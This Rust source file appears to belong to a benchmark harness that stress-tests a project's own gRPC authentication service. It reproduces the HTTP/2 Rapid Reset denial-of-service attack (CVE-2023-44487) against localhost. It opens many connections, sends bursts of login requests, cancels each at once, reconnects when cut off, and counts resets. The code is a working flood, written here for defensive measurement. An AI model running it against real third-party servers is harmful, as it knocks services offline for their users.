//! Requests over HTTP/2 that are given up at once (CVE-2023-44487): before anybody has
//! looked at them, and when they have begun.

use std::{
    net::SocketAddr,
    sync::{Arc, atomic::Ordering::Relaxed},
    time::Duration,
};

use h2::Reason;
use http::Request;
use tokio::{net::TcpStream, task::JoinSet};

use crate::{
    Outcome,
    under_attack::{Bench, End},
};

/// At a time on a connection: no more than the server allows.
const BURST: u64 = 100;

/// Measures, and prints.
pub(crate) async fn measure(connections: u64, time: Duration) -> Outcome<()> {
    println!("{connections} connections on which requests are sent and reset.\n");
    Bench::start().await?.measure(time, move |address, end| attack(address, end, connections)).await
}

async fn attack(address: SocketAddr, end: Arc<End>, connections: u64) -> Outcome<String> {
    let mut offenders = JoinSet::new();
    for number in 0..connections {
        offenders.spawn(offend(address, end.clone(), number % 2 == 0));
    }
    end.ready.notify_one();
    while let Some(done) = offenders.join_next().await {
        done?;
    }
    Ok(format!("{} requests were reset, {} connections cut", end.sent.load(Relaxed), end.cut.load(Relaxed)))
}

/// Comes again whenever it is cut off.
async fn offend(address: SocketAddr, end: Arc<End>, waits: bool) {
    while !end.is_now() {
        if flood(address, &end, waits).await.is_err() {
            end.cut.fetch_add(1, Relaxed);
        }
    }
}

async fn flood(address: SocketAddr, end: &End, waits: bool) -> Outcome<()> {
    let (send, connection) = h2::client::handshake(TcpStream::connect(address).await?).await?;
    let connection = tokio::spawn(connection);
    while !end.is_now() {
        let mut burst = Vec::new();
        for _ in 0..BURST {
            let login = Request::post("http://localhost/sekisho.v1.AuthService/Login");
            let login = login.header("content-type", "application/grpc").header("te", "trailers").body(())?;
            burst.push(send.clone().ready().await?.send_request(login, false)?);
            if waits {
                tokio::task::yield_now().await;
            }
        }
        for (_, stream) in &mut burst {
            stream.send_reset(Reason::CANCEL);
        }
        end.sent.fetch_add(BURST, Relaxed);
        tokio::task::yield_now().await;
    }
    connection.abort();
    Ok(())
}
